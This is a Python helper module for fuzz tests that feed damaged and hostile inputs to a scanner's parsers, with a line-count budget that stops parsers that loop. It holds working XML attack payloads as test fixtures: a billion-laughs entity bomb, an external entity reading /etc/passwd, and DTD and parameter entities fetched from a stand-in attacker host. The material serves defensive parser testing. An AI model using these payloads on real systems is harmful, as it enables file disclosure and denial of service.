"""Shared tools of the hostile-input tests: deterministic mutations of real sample bytes, the
classic hostile documents, and a work meter that stops a parser which loops.

Mutations are drawn from ``random.Random(seed)``, so every run feeds the same inputs and a
failure names the seed and index that reproduce it. The work meter counts the Python lines a
call executes inside ``scanner/`` (``sys.settrace``), not seconds: a parser that would spin
forever on a crafted length is stopped with ``WorkExceeded`` at a fixed count, the same on a
fast machine and a slow one. Work done in C (regex, json, XML) is bounded by the parsers' own
input caps, which the tests check separately by feeding inputs over the cap.
"""

from __future__ import annotations

import random
import sys
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any

SCANNER_DIR = str(Path(__file__).resolve().parents[1] / "scanner")
DEFAULT_BUDGET = 200_000  # lines executed in scanner/ for one parse of one input

INVALID_UTF8 = (b"\xff", b"\xfe\xff", b"\xc3\x28", b"\xed\xa0\x80", b"\xf4\x90\x80\x80", b"\xe2\x82", b"\x80")
# Bytes that latin-1 decodes to characters str.isdigit() accepts but int() refuses ('²', '³', '¹').
DIGIT_LOOKALIKES = (b"\xb2", b"\xb3", b"\xb9")
EDGE_INTEGERS = (0, 1, 0x7F, 0x80, 0xFF, 0x7FFF, 0xFFFF, 0x7FFFFFFF, 0xFFFFFFFF)

BILLION_LAUGHS = (
    b'<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol "lol">'
    + b"".join(
        b'<!ENTITY lol%d "%s">' % (n, b"".join(b"&lol%s;" % (b"" if n == 2 else str(n - 1).encode()) for _ in range(10)))
        for n in range(2, 10)
    )
    + b"]><lolz>&lol9;</lolz>"
)
EXTERNAL_ENTITY = b'<?xml version="1.0"?><!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]><r>&x;</r>'
EXTERNAL_DTD = b'<?xml version="1.0"?><!DOCTYPE r SYSTEM "http://198.18.0.1/evil.dtd"><r/>'
PARAMETER_ENTITY = b'<?xml version="1.0"?><!DOCTYPE r [<!ENTITY % p SYSTEM "http://198.18.0.1/p.dtd"> %p;]><r/>'
TEN_MB = 10 * 1024 * 1024


def deep_xml(depth: int = 100_000, tag: bytes = b"a") -> bytes:
    return b"<%s>" % tag * depth + b"</%s>" % tag * depth


def deep_json(depth: int = 100_000) -> bytes:
    return b"[" * depth + b"]" * depth


def hostile_xml_documents(root: bytes = b"Envelope") -> list[bytes]:
    """The classic XML attacks, plus the same shapes wrapped in the root a parser expects."""
    return [
        BILLION_LAUGHS,
        EXTERNAL_ENTITY,
        EXTERNAL_DTD,
        PARAMETER_ENTITY,
        BILLION_LAUGHS.replace(b"<lolz>&lol9;</lolz>", b"<%s>&lol9;</%s>" % (root, root)),
        EXTERNAL_ENTITY.replace(b"<r>&x;</r>", b"<%s>&x;</%s>" % (root, root)),
        deep_xml(),
        deep_xml(tag=root),
        b"<" + root + b">" + b"x" * TEN_MB + b"</" + root + b">",
        b"",
        b"   \r\n\t ",
        b"\0" * 64,
        b"<?xml version='1.0' encoding='x-no-such-codec'?><a/>",
        b"<?xml version='1.0' encoding='utf-16'?><a/>",
        "<a>\ud800</a>".encode("utf-8", "surrogatepass"),
    ]


def mutations(sample: bytes, seed: int, count: int = 120, cuts: int = 40) -> Iterator[bytes]:
    """Deterministic damaged copies of ``sample``: ``cuts`` truncations spread over its length
    (at every N-th offset), then ``count`` random edits of the kinds a broken or hostile device
    sends: flipped bits, overwritten bytes, inserted NULs, invalid UTF-8, a digit replaced by a
    look-alike, a 2- or 4-byte window set to an extreme integer (oversized length fields), and
    a slice repeated many times (huge repeated elements)."""
    step = max(1, len(sample) // cuts)
    for cut in range(0, len(sample), step):
        yield sample[:cut]
    rng = random.Random(seed)
    kinds = (_flip, _overwrite, _insert_nul, _invalid_utf8, _digit_lookalike, _extreme_int, _repeat, _drop_slice)
    for _ in range(count):
        data = bytearray(sample)
        for _edit in range(rng.choice((1, 1, 2, 3, 5))):
            data = rng.choice(kinds)(data, rng)
        yield bytes(data)


def _pos(data: bytearray, rng: random.Random) -> int:
    return rng.randrange(len(data)) if data else 0


def _flip(data: bytearray, rng: random.Random) -> bytearray:
    if data:
        i = _pos(data, rng)
        data[i] ^= 1 << rng.randrange(8)
    return data


def _overwrite(data: bytearray, rng: random.Random) -> bytearray:
    if data:
        data[_pos(data, rng)] = rng.randrange(256)
    return data


def _insert_nul(data: bytearray, rng: random.Random) -> bytearray:
    i = _pos(data, rng)
    return data[:i] + b"\0" * rng.choice((1, 2, 16)) + data[i:]


def _invalid_utf8(data: bytearray, rng: random.Random) -> bytearray:
    i = _pos(data, rng)
    return data[:i] + rng.choice(INVALID_UTF8) + data[i:]


def _digit_lookalike(data: bytearray, rng: random.Random) -> bytearray:
    digits = [i for i, b in enumerate(data) if 0x30 <= b <= 0x39]
    if digits:
        i = rng.choice(digits)
        data[i : i + 1] = rng.choice(DIGIT_LOOKALIKES)
    return data


def _extreme_int(data: bytearray, rng: random.Random) -> bytearray:
    if len(data) >= 4:
        width = rng.choice((1, 2, 4))
        i = rng.randrange(len(data) - width + 1)
        value = rng.choice(EDGE_INTEGERS) & ((1 << (8 * width)) - 1)
        data[i : i + width] = value.to_bytes(width, rng.choice(("big", "little")))
    return data


def _repeat(data: bytearray, rng: random.Random) -> bytearray:
    if not data:
        return data
    i = _pos(data, rng)
    j = min(len(data), i + rng.randrange(1, 64))
    times = rng.choice((2, 100, 2000))
    return data[:j] + data[i:j] * times + data[j:]


def _drop_slice(data: bytearray, rng: random.Random) -> bytearray:
    if not data:
        return data
    i = _pos(data, rng)
    return data[:i] + data[i + rng.randrange(1, 32) :]


class WorkExceeded(BaseException):
    """A call ran more lines of scanner code than its budget (a BaseException, so a parser's
    own ``except Exception`` cannot swallow it)."""


def bounded(fn: Callable[..., Any], *args: Any, budget: int = DEFAULT_BUDGET, **kwargs: Any) -> Any:
    """Call ``fn``; raise ``WorkExceeded`` once it has executed ``budget`` lines in scanner/."""
    executed = 0

    def local(frame, event, arg):
        nonlocal executed
        if event == "line":
            executed += 1
            if executed > budget:
                raise WorkExceeded(f"{getattr(fn, '__qualname__', fn)} ran over {budget} lines of scanner code")
        return local

    def calls(frame, event, arg):
        return local if frame.f_code.co_filename.startswith(SCANNER_DIR) else None

    previous = sys.gettrace()
    sys.settrace(calls)
    try:
        return fn(*args, **kwargs)
    finally:
        sys.settrace(previous)


def outcome(fn: Callable[..., Any], data: Any, *args: Any, allowed: tuple[type[BaseException], ...],
            budget: int = DEFAULT_BUDGET, **kwargs: Any) -> tuple[Any, BaseException | None]:
    """(result, None) or (None, the allowed exception). Any other exception, or running over the
    work budget, fails the test with the input's size and head so it can be reproduced."""
    try:
        return bounded(fn, data, *args, budget=budget, **kwargs), None
    except allowed as exc:
        return None, exc
    except (Exception, WorkExceeded) as exc:
        head = data[:80] if isinstance(data, (bytes, str)) else type(data).__name__
        raise AssertionError(
            f"{getattr(fn, '__qualname__', fn)} raised {type(exc).__name__}: {str(exc)[:200]} "
            f"(allowed: {', '.join(a.__name__ for a in allowed)}) on {len(data) if hasattr(data, '__len__') else '?'} "
            f"bytes starting {head!r}"
        ) from exc
